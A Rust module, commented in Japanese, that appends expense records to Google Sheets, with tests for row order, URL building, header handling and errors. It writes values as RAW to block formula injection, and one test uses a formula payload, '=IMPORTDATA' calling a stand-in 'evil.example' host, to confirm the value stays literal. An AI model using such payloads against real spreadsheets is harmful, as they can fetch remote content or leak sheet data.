// Google Sheets追記クライアント
//
// 正規化済み支出レコードをスプレッドシートの末尾に1行追記する。
// 列順: date, amount, category, description, sender_id
// 先頭行が空の場合はヘッダー行を先に追記する。
// 値はRAWで書き込み、説明文が`=`で始まっても数式として評価させない。
//
// 1リクエストにつき単発の呼び出しで、失敗しても再試行しない。

use std::fmt;

use async_trait::async_trait;
use reqwest::Client;
use serde::Deserialize;
use serde_json::{json, Value};
use thiserror::Error;
use tracing::{debug, error, info, instrument};
use url::Url;

use super::google_auth::{AccessTokenProvider, AuthError};
use super::http_client::truncate_body;
use crate::domain::NormalizedExpense;

/// Sheets APIのベースURL
pub const SHEETS_API_BASE: &str = "https://sheets.googleapis.com/v4/spreadsheets/";

/// ヘッダー行
pub const HEADER_ROW: [&str; 5] = ["Date", "Amount", "Category", "Description", "Sender"];

/// ヘッダー行のA1範囲（列数と揃える）
const HEADER_CELLS: &str = "A1:E1";

/// 追記時の値の解釈方法
///
/// ユーザー入力（`=IMPORTDATA(...)`等）は文字列のまま格納し、数式として評価しない。
const VALUE_INPUT_OPTION: &str = "RAW";

/// 永続化エラー
#[derive(Debug, Error, Clone, PartialEq)]
pub enum PersistenceError {
    /// スプレッドシートが設定されていない
    #[error("スプレッドシートが設定されていません")]
    NotConfigured,

    /// 認証エラー
    #[error("認証エラー: {0}")]
    AuthError(String),

    /// ネットワークエラー（タイムアウトを含む）
    #[error("ネットワークエラー: {0}")]
    NetworkError(String),

    /// HTTPエラー（ステータスコード付き）
    #[error("HTTPエラー: status={status}, message={message}")]
    HttpError { status: u16, message: String },

    /// URL構築エラー
    #[error("URL構築エラー: {0}")]
    InvalidUrl(String),
}

impl From<AuthError> for PersistenceError {
    fn from(err: AuthError) -> Self {
        PersistenceError::AuthError(err.to_string())
    }
}

/// 支出レコード永続化トレイト
#[async_trait]
pub trait SheetAppender: Send + Sync {
    /// レコードを1行追記する
    async fn append(&self, expense: &NormalizedExpense) -> Result<(), PersistenceError>;
}

/// レコードをスプレッドシートの行に変換
///
/// 日付は`YYYY-MM-DD`、金額は数値として書き込む。
pub fn expense_row(expense: &NormalizedExpense) -> Vec<Value> {
    vec![
        Value::from(expense.date.format("%Y-%m-%d").to_string()),
        expense.amount.to_json_value(),
        Value::from(expense.category.as_str()),
        Value::from(expense.description.clone()),
        Value::from(expense.sender_id.as_str()),
    ]
}

/// シート名をA1表記用に整形
///
/// 英数字とアンダースコア以外を含む場合はシングルクォートで囲む。
fn quote_sheet_name(sheet_name: &str) -> String {
    if !sheet_name.is_empty()
        && sheet_name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_')
    {
        sheet_name.to_string()
    } else {
        format!("'{}'", sheet_name.replace('\'', "''"))
    }
}

/// values.get のレスポンス
#[derive(Debug, Deserialize)]
struct ValueRange {
    #[serde(default)]
    values: Vec<Vec<Value>>,
}

/// Google Sheets APIによる追記実装
#[derive(Clone)]
pub struct GoogleSheetsAppender<P>
where
    P: AccessTokenProvider,
{
    client: Client,
    token_provider: P,
    spreadsheet_id: String,
    sheet_name: String,
    api_base: String,
}

impl<P: AccessTokenProvider> fmt::Debug for GoogleSheetsAppender<P> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("GoogleSheetsAppender")
            .field("spreadsheet_id", &self.spreadsheet_id)
            .field("sheet_name", &self.sheet_name)
            .finish_non_exhaustive()
    }
}

impl<P: AccessTokenProvider> GoogleSheetsAppender<P> {
    pub fn new(
        client: Client,
        token_provider: P,
        spreadsheet_id: impl Into<String>,
        sheet_name: impl Into<String>,
    ) -> Self {
        Self {
            client,
            token_provider,
            spreadsheet_id: spreadsheet_id.into(),
            sheet_name: sheet_name.into(),
            api_base: SHEETS_API_BASE.to_string(),
        }
    }

    /// APIベースURLを差し替える（エミュレーター・テスト用）
    pub fn with_api_base(mut self, api_base: impl Into<String>) -> Self {
        let mut base = api_base.into();
        if !base.ends_with('/') {
            base.push('/');
        }
        self.api_base = base;
        self
    }

    /// `{base}{spreadsheet_id}/values/{range}{suffix}` を構築
    fn values_url(&self, range: &str, suffix: &str) -> Result<Url, PersistenceError> {
        let mut url =
            Url::parse(&self.api_base).map_err(|e| PersistenceError::InvalidUrl(e.to_string()))?;

        url.path_segments_mut()
            .map_err(|_| PersistenceError::InvalidUrl(self.api_base.clone()))?
            .pop_if_empty()
            .push(&self.spreadsheet_id)
            .push("values")
            .push(&format!("{range}{suffix}"));

        Ok(url)
    }

    /// 追記エンドポイントURL
    fn append_url(&self) -> Result<Url, PersistenceError> {
        let mut url = self.values_url(&quote_sheet_name(&self.sheet_name), ":append")?;
        url.query_pairs_mut()
            .append_pair("valueInputOption", VALUE_INPUT_OPTION)
            .append_pair("insertDataOption", "INSERT_ROWS");
        Ok(url)
    }

    /// ヘッダー行取得URL
    fn header_url(&self) -> Result<Url, PersistenceError> {
        let range = format!("{}!{}", quote_sheet_name(&self.sheet_name), HEADER_CELLS);
        self.values_url(&range, "")
    }

    /// 先頭行が空かどうかを確認
    async fn header_missing(&self, token: &str) -> Result<bool, PersistenceError> {
        let response = self
            .client
            .get(self.header_url()?)
            .bearer_auth(token)
            .send()
            .await
            .map_err(|e| PersistenceError::NetworkError(e.to_string()))?;

        let status = response.status();
        if !status.is_success() {
            let body = response.text().await.unwrap_or_default();
            return Err(PersistenceError::HttpError {
                status: status.as_u16(),
                message: truncate_body(&body),
            });
        }

        let range: ValueRange = response
            .json()
            .await
            .map_err(|e| PersistenceError::NetworkError(e.to_string()))?;

        Ok(range.values.iter().all(|row| row.is_empty()))
    }

    /// 1行を追記
    async fn append_row(&self, token: &str, row: Vec<Value>) -> Result<(), PersistenceError> {
        let response = self
            .client
            .post(self.append_url()?)
            .bearer_auth(token)
            .json(&json!({ "values": [row] }))
            .send()
            .await
            .map_err(|e| {
                error!(error = %e, "Sheets追記リクエスト失敗");
                PersistenceError::NetworkError(e.to_string())
            })?;

        let status = response.status();
        if status.is_success() {
            return Ok(());
        }

        let body = response.text().await.unwrap_or_default();
        error!(status = %status, body = %truncate_body(&body), "Sheets追記エラー");

        Err(PersistenceError::HttpError {
            status: status.as_u16(),
            message: truncate_body(&body),
        })
    }
}

#[async_trait]
impl<P: AccessTokenProvider> SheetAppender for GoogleSheetsAppender<P> {
    #[instrument(skip(self, expense), fields(spreadsheet_id = %self.spreadsheet_id, sheet = %self.sheet_name))]
    async fn append(&self, expense: &NormalizedExpense) -> Result<(), PersistenceError> {
        let token = self.token_provider.access_token().await?;

        if self.header_missing(&token).await? {
            debug!("ヘッダー行を追加");
            let header = HEADER_ROW.iter().map(|h| Value::from(*h)).collect();
            self.append_row(&token, header).await?;
        }

        self.append_row(&token, expense_row(expense)).await?;

        info!(
            amount = expense.amount.value(),
            category = %expense.category,
            "スプレッドシートに追記完了"
        );
        Ok(())
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::domain::{Amount, Category, SenderId};
    use crate::infrastructure::google_auth::StaticTokenProvider;
    use crate::infrastructure::stub_http::{StubResponse, StubServer};
    use chrono::NaiveDate;
    use std::sync::{Arc, Mutex};

    /// ユニットテスト用のモック追記先
    #[derive(Debug, Clone, Default)]
    pub struct MockSheetAppender {
        rows: Arc<Mutex<Vec<NormalizedExpense>>>,
        failure: Arc<Mutex<Option<PersistenceError>>>,
    }

    impl MockSheetAppender {
        pub fn new() -> Self {
            Self::default()
        }

        pub fn failing_with(error: PersistenceError) -> Self {
            let appender = Self::default();
            *appender.failure.lock().unwrap() = Some(error);
            appender
        }

        pub fn appended(&self) -> Vec<NormalizedExpense> {
            self.rows.lock().unwrap().clone()
        }
    }

    #[async_trait]
    impl SheetAppender for MockSheetAppender {
        async fn append(&self, expense: &NormalizedExpense) -> Result<(), PersistenceError> {
            if let Some(error) = self.failure.lock().unwrap().clone() {
                return Err(error);
            }
            self.rows.lock().unwrap().push(expense.clone());
            Ok(())
        }
    }

    fn appender(sheet_name: &str) -> GoogleSheetsAppender<StaticTokenProvider> {
        GoogleSheetsAppender::new(
            Client::new(),
            StaticTokenProvider::new("token"),
            "sheet-id-123",
            sheet_name,
        )
    }

    fn expense() -> NormalizedExpense {
        NormalizedExpense {
            amount: Amount::parse("20000").unwrap(),
            category: Category::Food,
            description: "almuerzo".to_string(),
            date: NaiveDate::from_ymd_opt(2025, 11, 3).unwrap(),
            sender_id: SenderId::new("123456"),
        }
    }

    // ==================== 行変換テスト ====================

    #[test]
    fn test_expense_row_column_order() {
        let row = expense_row(&expense());
        assert_eq!(
            row,
            vec![
                json!("2025-11-03"),
                json!(20000),
                json!("Food"),
                json!("almuerzo"),
                json!("123456"),
            ]
        );
    }

    /// 数式のような説明文も文字列セルのまま渡す
    #[test]
    fn test_formula_description_stays_literal() {
        let mut record = expense();
        record.description = "=IMPORTDATA(\"https://evil.example/x\")".to_string();

        let row = expense_row(&record);
        assert_eq!(row[3], json!("=IMPORTDATA(\"https://evil.example/x\")"));

        let url = appender("Sheet1").append_url().unwrap();
        let input_options: Vec<String> = url
            .query_pairs()
            .filter(|(key, _)| key == "valueInputOption")
            .map(|(_, value)| value.into_owned())
            .collect();
        assert_eq!(input_options, vec!["RAW".to_string()]);
        assert!(!url.as_str().contains("USER_ENTERED"));
    }

    #[test]
    fn test_header_row_matches_row_length() {
        assert_eq!(HEADER_ROW.len(), expense_row(&expense()).len());
    }

    // ==================== URL構築テスト ====================

    #[test]
    fn test_append_url() {
        let url = appender("Sheet1").append_url().unwrap();
        assert_eq!(
            url.as_str(),
            "https://sheets.googleapis.com/v4/spreadsheets/sheet-id-123/values/Sheet1:append?valueInputOption=RAW&insertDataOption=INSERT_ROWS"
        );
    }

    #[test]
    fn test_header_url() {
        let url = appender("Sheet1").header_url().unwrap();
        assert_eq!(
            url.as_str(),
            "https://sheets.googleapis.com/v4/spreadsheets/sheet-id-123/values/Sheet1!A1:E1"
        );
    }

    /// 空白を含むシート名はクォートされ、パスとしてエンコードされる
    #[test]
    fn test_append_url_with_spaced_sheet_name() {
        let url = appender("Gastos 2025").append_url().unwrap();
        assert!(url
            .as_str()
            .contains("/values/'Gastos%202025':append?"));
    }

    #[test]
    fn test_with_api_base() {
        let url = appender("Sheet1")
            .with_api_base("http://localhost:8080/v4/spreadsheets")
            .header_url()
            .unwrap();
        assert_eq!(
            url.as_str(),
            "http://localhost:8080/v4/spreadsheets/sheet-id-123/values/Sheet1!A1:E1"
        );
    }

    #[test]
    fn test_quote_sheet_name() {
        assert_eq!(quote_sheet_name("Sheet1"), "Sheet1");
        assert_eq!(quote_sheet_name("My Sheet"), "'My Sheet'");
        assert_eq!(quote_sheet_name("Bob's"), "'Bob''s'");
        assert_eq!(quote_sheet_name(""), "''");
    }

    // ==================== エラーテスト ====================

    #[test]
    fn test_auth_error_conversion() {
        let err: PersistenceError = AuthError::NetworkError("timeout".to_string()).into();
        assert!(matches!(err, PersistenceError::AuthError(msg) if msg.contains("timeout")));
    }

    #[test]
    fn test_debug_does_not_leak_token() {
        let debug = format!("{:?}", appender("Sheet1"));
        assert!(debug.contains("sheet-id-123"));
        assert!(!debug.contains("token"));
    }

    // ==================== HTTP経路テスト ====================

    fn stub_appender(server: &StubServer) -> GoogleSheetsAppender<StaticTokenProvider> {
        let client = Client::builder().no_proxy().build().unwrap();
        GoogleSheetsAppender::new(
            client,
            StaticTokenProvider::new("token"),
            "sheet-id-123",
            "Sheet1",
        )
        .with_api_base(format!("{}/v4/spreadsheets", server.base_url()))
    }

    /// 空のシートにはヘッダー行、レコード行の順に追記する
    #[tokio::test]
    async fn test_append_to_empty_sheet_writes_header_first() {
        let server = StubServer::start(vec![
            StubResponse::json(200, json!({"range": "Sheet1!A1:E1", "majorDimension": "ROWS"})),
            StubResponse::json(200, json!({"updates": {"updatedRows": 1}})),
            StubResponse::json(200, json!({"updates": {"updatedRows": 1}})),
        ])
        .await;

        stub_appender(&server).append(&expense()).await.unwrap();

        let requests = server.requests();
        assert_eq!(requests.len(), 3);

        assert_eq!(requests[0].method, "GET");
        assert_eq!(
            requests[0].target,
            "/v4/spreadsheets/sheet-id-123/values/Sheet1!A1:E1"
        );
        assert_eq!(requests[0].header("authorization"), Some("Bearer token"));

        let append_target = "/v4/spreadsheets/sheet-id-123/values/Sheet1:append?valueInputOption=RAW&insertDataOption=INSERT_ROWS";
        assert_eq!(requests[1].method, "POST");
        assert_eq!(requests[1].target, append_target);
        assert_eq!(
            requests[1].json(),
            json!({"values": [["Date", "Amount", "Category", "Description", "Sender"]]})
        );

        assert_eq!(requests[2].method, "POST");
        assert_eq!(requests[2].target, append_target);
        assert_eq!(
            requests[2].json(),
            json!({"values": [["2025-11-03", 20000, "Food", "almuerzo", "123456"]]})
        );
    }

    /// ヘッダー行があればレコード行だけを追記する
    #[tokio::test]
    async fn test_append_with_existing_header_posts_once() {
        let server = StubServer::start(vec![
            StubResponse::json(
                200,
                json!({"range": "Sheet1!A1:E1", "values": [HEADER_ROW]}),
            ),
            StubResponse::json(200, json!({"updates": {"updatedRows": 1}})),
        ])
        .await;

        stub_appender(&server).append(&expense()).await.unwrap();

        let requests = server.requests();
        let posts: Vec<_> = requests.iter().filter(|r| r.method == "POST").collect();
        assert_eq!(requests.len(), 2);
        assert_eq!(posts.len(), 1);
        assert_eq!(posts[0].json()["values"][0][3], json!("almuerzo"));
    }

    #[tokio::test]
    async fn test_append_rejected_is_http_error() {
        let server = StubServer::start(vec![
            StubResponse::json(200, json!({"values": [HEADER_ROW]})),
            StubResponse::json(
                403,
                json!({"error": {"code": 403, "message": "The caller does not have permission"}}),
            ),
        ])
        .await;

        let err = stub_appender(&server).append(&expense()).await.unwrap_err();
        assert!(matches!(
            err,
            PersistenceError::HttpError { status: 403, ref message } if message.contains("permission")
        ));
    }

    /// ヘッダー確認の失敗時は追記しない
    #[tokio::test]
    async fn test_header_lookup_failure_is_http_error() {
        let server = StubServer::start(vec![StubResponse::text(500, "backend error")]).await;

        let err = stub_appender(&server).append(&expense()).await.unwrap_err();
        assert!(matches!(err, PersistenceError::HttpError { status: 500, .. }));
        assert_eq!(server.requests().len(), 1);
    }

    #[tokio::test]
    async fn test_mock_appender_records_rows() {
        let mock = MockSheetAppender::new();
        mock.append(&expense()).await.unwrap();
        assert_eq!(mock.appended(), vec![expense()]);
    }

    #[tokio::test]
    async fn test_mock_appender_failure() {
        let mock = MockSheetAppender::failing_with(PersistenceError::NotConfigured);
        assert_eq!(mock.append(&expense()).await, Err(PersistenceError::NotConfigured));
        assert!(mock.appended().is_empty());
    }
}
